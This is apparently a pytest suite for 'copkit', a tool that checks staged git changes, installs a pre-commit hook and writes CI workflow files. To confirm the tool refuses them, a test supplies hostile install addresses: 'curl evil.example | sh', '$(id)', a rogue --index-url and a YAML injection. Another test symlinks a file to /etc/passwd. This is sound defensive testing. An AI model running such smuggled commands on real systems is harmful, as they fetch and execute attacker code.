"""`copkit check --staged`, the hook that calls it, and the workflow files: what is about to be committed counts."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from copkit.cli.installed_from import source_of
from copkit.workspace import Folder, load
from copkit.world.git.index_tree import IndexTree
from tests.cli.notes.conftest import NOTES, SAMPLE, git
from tests.shell import ROOT, copkit

BAD = "present: [joe.bell]\ncapture: |\n  action: draft it | 30 Jun\n"


def test_the_index_counts_and_not_the_disk(repo: Path) -> None:
    (repo / NOTES).write_text(BAD)
    assert copkit("check", "--staged", root=repo).code == 0, "nothing is staged yet"
    git(repo, "add", NOTES)
    (repo / NOTES).write_text(SAMPLE)
    ran = copkit("check", "--staged", root=repo)
    assert ran.code == 1
    assert f"{NOTES}:3:3: error ACT-01" in ran.out
    git(repo, "add", NOTES)
    (repo / NOTES).write_text(BAD)
    assert copkit("check", "--staged", root=repo).code == 0


def test_only_staged_files_are_told_and_the_others_are_counted(repo: Path) -> None:
    (repo / NOTES).write_text(SAMPLE)
    git(repo, "add", NOTES)
    ran = copkit("check", "--staged", root=repo)
    assert all(line.startswith(NOTES) for line in ran.out.splitlines())
    assert "not staged" in ran.err


def test_what_is_not_due_is_counted_and_all_shows_it(repo: Path) -> None:
    for plan in (repo / "communities/systems-leadership").rglob("*.yaml"):
        plan.write_text(plan.read_text() + "\n# typed\n")
    git(repo, "add", "-A")
    short, every = (copkit("check", "--staged", *more, root=repo) for more in ((), ("--all",)))
    assert " info " not in short.out
    assert "“copkit check --staged --all” shows" in short.err
    assert " info " in every.out


def test_what_is_staged_is_told_as_json_too(repo: Path) -> None:
    (repo / NOTES).write_text(BAD)
    git(repo, "add", NOTES)
    ran = copkit("check", "--staged", "--json", root=repo)
    assert ran.code == 1
    assert {one["path"] for one in json.loads(ran.out)["findings"]} == {NOTES}
    assert "::error file=" in copkit("check", "--staged", "--format", "github", root=repo).out


def test_a_private_export_about_to_be_committed_is_told(repo: Path) -> None:
    (repo / "private").mkdir()
    (repo / "private/teams.csv").write_text("Name,Email\n")
    git(repo, "add", "-f", "private/teams.csv")
    ran = copkit("check", "--staged", root=repo)
    assert ran.code == 1
    assert "PRV-07" in ran.out


def test_the_index_gives_the_same_workspace_as_the_disk(repo: Path) -> None:
    with IndexTree(repo) as index:
        staged, disk = load(index), load(Folder(repo))
    assert staged.shared.people == disk.shared.people
    assert staged.communities.keys() == disk.communities.keys()
    for name, community in disk.communities.items():
        assert staged.communities[name].sessions == community.sessions
        assert staged.communities[name].members == community.members


def test_links_are_not_followed(repo: Path) -> None:
    (repo / "communities/systems-leadership/updates.yaml").symlink_to("/etc/passwd")
    git(repo, "add", "-A")
    ran = copkit("check", "--staged", root=repo)
    assert ran.code == 1
    assert "updates.yaml" in ran.out and "root:" not in ran.out


def test_without_git_it_says_so(home: Path) -> None:
    ran = copkit("check", "--staged", root=home)
    assert ran.code == 3
    assert "git" in ran.err


PEOPLE, ROLL = "communities/programme/people.yaml", "communities/systems-leadership/members.yaml"


def without_a_person(repo: Path) -> None:
    lines = (repo / PEOPLE).read_text().splitlines(keepends=True)
    (repo / PEOPLE).write_text("".join(line for line in lines if not line.startswith("joe.bell:")))


def without_the_register(repo: Path) -> None:
    (repo / PEOPLE).unlink()


@pytest.mark.parametrize("damage", [without_a_person, without_the_register])
def test_who_is_taken_out_and_still_named_elsewhere_is_told(damage: Callable[[Path], None], repo: Path) -> None:
    damage(repo)
    git(repo, "add", "-A")
    ran = copkit("check", "--staged", root=repo)
    assert ran.code == 1, ran
    assert f"{ROLL}:" in ran.out and "REF-04" in ran.out and "names what the commit takes out" in ran.err
    (repo / ROLL).write_text("[]\n")
    assert f"{ROLL}:" in copkit("check", "--staged", root=repo).out, "it is the index that counts"


def test_where_the_workspace_is_a_folder_within_a_repository(repo: Path, tmp_path: Path) -> None:
    outer = tmp_path / "outer"
    inner = Path(shutil.copytree(repo, outer / "ws", ignore=shutil.ignore_patterns(".git")))
    for words in (("init", "--quiet"), ("add", "-A"), ("commit", "--quiet", "--message=All")):
        git(outer, *words)
    without_a_person(inner)
    git(outer, "add", "-A")
    ran = copkit("check", "--staged", root=inner)
    assert ran.code == 1 and f"{ROLL}:" in ran.out, ran


def test_a_plan_that_is_taken_out_and_still_named_is_told(repo: Path) -> None:
    group = repo / "communities/systems-leadership/groups/readers.yaml"
    group.parent.mkdir(exist_ok=True)
    group.write_text("name: Readers\nlead: joe.bell\nfrom: 2026-06-09\n")
    git(repo, "add", "-A")
    git(repo, "commit", "--quiet", "--message=Readers")
    for path in (repo / "communities/systems-leadership/sessions").glob("2026-06-09*"):
        path.unlink()
    git(repo, "add", "-A")
    ran = copkit("check", "--staged", root=repo)
    assert ran.code == 1 and "groups/readers.yaml:3:1: error REF-01" in ran.out, ran


def test_what_was_broken_before_does_not_stop_a_commit_that_takes_out_something_else(repo: Path) -> None:
    with (repo / ROLL).open("a") as roll:
        roll.write("- {who: nobody.known}\n")
    with (repo / PEOPLE).open("a") as people:
        people.write("rosa.lind: {name: Rosa Lind, organisation: hospice}\n")
    git(repo, "add", "-A")
    git(repo, "commit", "--quiet", "--no-verify", "--message=A slip")
    (repo / PEOPLE).write_text("".join((repo / PEOPLE).read_text().splitlines(keepends=True)[:-1]))
    git(repo, "add", "-A")
    ran = copkit("check", "--staged", root=repo)
    assert (ran.code, "nobody.known" in ran.out) == (0, False), ran


def test_of_a_community_that_is_named_only_its_files_are_told(repo: Path) -> None:
    other = repo / "communities/other/community.yaml"
    other.parent.mkdir()
    other.write_text("id: elsewhere\nname: Other\nsponsor: nobody.known\n")
    (repo / NOTES).write_text(BAD)
    git(repo, "add", "-A")
    both, one = (copkit("check", *more, "--staged", root=repo).out for more in ((), ("systems-leadership",)))
    assert NOTES in both and "communities/other/" in both
    assert NOTES in one and "communities/other/" not in one
    assert copkit("check", "nowhere", "--staged", root=repo).code == 2


def test_as_a_hook_it_stops_the_commit(repo: Path) -> None:
    hook = repo / ".git/hooks/pre-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f'#!/bin/sh\nexec "{sys.executable}" -P -m copkit check --staged\n')
    hook.chmod(0o755)
    (repo / NOTES).write_text(BAD)
    (repo / "communities/systems-leadership/updates.yaml").write_text("[]\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(["git", "commit", "-qm", "x", "-a"], cwd=repo, env=env, capture_output=True, timeout=120)
    assert done.returncode == 1, "nothing is added yet"
    git(repo, "add", NOTES)
    words = ["git", "commit", "-qm", "x", "--only", "--", NOTES]
    done = subprocess.run(words, cwd=repo, env=env, capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode != 0
    assert "ACT-01" in done.stdout + done.stderr
    (repo / NOTES).write_text(SAMPLE)
    done = subprocess.run(words, cwd=repo, env=env, capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode == 0, done.stderr


def test_the_hook_that_is_offered_is_the_command_that_there_is() -> None:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    assert (hook["id"], hook["entry"], hook["pass_filenames"]) == ("copkit-check", "copkit check --staged", False)
    assert hook["always_run"] and "files" not in hook, "what must not be in git may lie anywhere"


ADDRESS = "git+https://code.example/team/copkit.git@v1.0.0"
COMMIT = "a1b2" * 10
WHEEL = "./tools/copkit-1.0.0-py3-none-any.whl"


def test_workflow_files_are_added_once_and_are_yaml(home: Path) -> None:
    names = (".github/workflows/copkit.yml", ".gitlab-ci.yml", ".copkit/constraints.txt")
    command = ("init", home, "--ci", "--install", ADDRESS)
    assert copkit(*command, "--dry-run").code == 0
    assert not (home / names[0]).exists()
    ran = copkit(*command)
    assert (ran.code, ran.err) == (0, "")
    github, gitlab = (yaml.safe_load((home / name).read_text()) for name in names[:2])
    steps = github["jobs"]["check"]["steps"]
    assert [step.get("run") for step in steps][-1] == "copkit check --format github"
    assert steps[0]["with"]["fetch-depth"] == 0
    assert github[True] == {"push": None, "pull_request": None}, "YAML 1.1 reads “on” as true"
    assert gitlab["copkit"]["script"][-1] == "copkit check"
    assert (home / names[2]).read_bytes() == (ROOT / "constraints.txt").read_bytes()
    (home / names[1]).write_text("mine: {script: [echo]}\n")
    again = copkit(*command)
    assert again.code == 0
    assert (home / names[1]).read_text() == "mine: {script: [echo]}\n"


def test_nothing_is_written_where_nobody_knows_where_copkit_came_from(home: Path) -> None:
    ran = copkit("init", home, "--ci")
    assert ran.code == 2
    assert "copkit does not know where others can install it from; nothing was written" in ran.err
    assert not (home / ".gitlab-ci.yml").exists()


@pytest.mark.parametrize(("address", "built"), [(ADDRESS, "--no-build-isolation "), (WHEEL, "")])
def test_workflow_files_take_copkit_from_where_it_is_said_and_all_else_as_pinned(
    home: Path, address: str, built: str
) -> None:
    (home / "tools").mkdir()
    (home / WHEEL).write_bytes(b"")
    assert copkit("init", home, "--ci", "--install", address).code == 0
    github = yaml.safe_load((home / ".github/workflows/copkit.yml").read_text())
    gitlab = yaml.safe_load((home / ".gitlab-ci.yml").read_text())
    said = [step["run"] for step in github["jobs"]["check"]["steps"] if "run" in step]
    assert said[-2] == f'pip install --constraint .copkit/constraints.txt {built}"{address}"'
    assert all(" --constraint .copkit/constraints.txt " in line for line in said[:-1])
    assert [line.replace("--quiet ", "") for line in gitlab["copkit"]["script"][:-1]] == said[:-1]


@pytest.mark.parametrize(
    ("address", "said"),
    [
        ("copkit; curl evil.example | sh", "pip cannot install"),
        ("$(id)", "pip cannot install"),
        ("--index-url=https://evil.example", "pip cannot install"),
        ('x"\n- run: id', "pip cannot install"),
        ("git+https://sam:secret@code.example/copkit.git", "holds a password"),
        ("git+https://ghp_secret@code.example/copkit.git", "holds a password"),
        ("git+https://HOST/TEAM/copkit.git@v1.0.0", "HOST stands for your own"),
        ("git+https://code.example/TEAM/copkit.git@v1.0.0", "TEAM stands for your own"),
        ("copkit", "may be another copkit tomorrow"),
        ("copkit==1.0.0", "may be another copkit tomorrow"),
        ("git+https://code.example/team/copkit.git", "may be another copkit tomorrow"),
        ("git+https://code.example/team/copkit.git@main", "may be another copkit tomorrow"),
        ("git+https://code.example/team/copkit.git@a1b2c3d", "may be another copkit tomorrow"),
        ("git+http://code.example/team/copkit.git@v1.0.0", "may be another copkit tomorrow"),
        ("https://code.example/copkit-1.0.0-py3-none-any.whl", "may be another copkit tomorrow"),
        ("./tools/copkit-9.9.9-py3-none-any.whl", "there is no file"),
        ("../copkit-1.0.0-py3-none-any.whl", "there is no file"),
    ],
)
def test_what_is_no_address_or_would_tell_a_password_is_refused(home: Path, address: str, said: str) -> None:
    ran = copkit("init", home, "--ci", f"--install={address}")
    assert ran.code == 2
    assert said in ran.err
    assert not (home / ".gitlab-ci.yml").exists()


@pytest.mark.parametrize(
    ("noted", "source"),
    [
        (
            {"url": "https://code.example/copkit.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
            f"git+https://code.example/copkit.git@{COMMIT}",
        ),
        (
            {"url": "https://code.example/copkit.whl", "archive_info": {"hashes": {"sha256": "0" * 64}}},
            f"https://code.example/copkit.whl#sha256={'0' * 64}",
        ),
        ({"url": "https://code.example/copkit.whl", "archive_info": {}}, ""),
        ({"url": "file:///home/sam/copkit", "dir_info": {"editable": True}}, ""),
        ({"url": "file:///home/sam/copkit", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, ""),
        ({"url": "https://t0ken@code.example/c.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, ""),
        ([], ""),
    ],
)
def test_where_copkit_was_installed_from_is_used_where_others_reach_it(noted: object, source: str) -> None:
    assert source_of(noted) == source
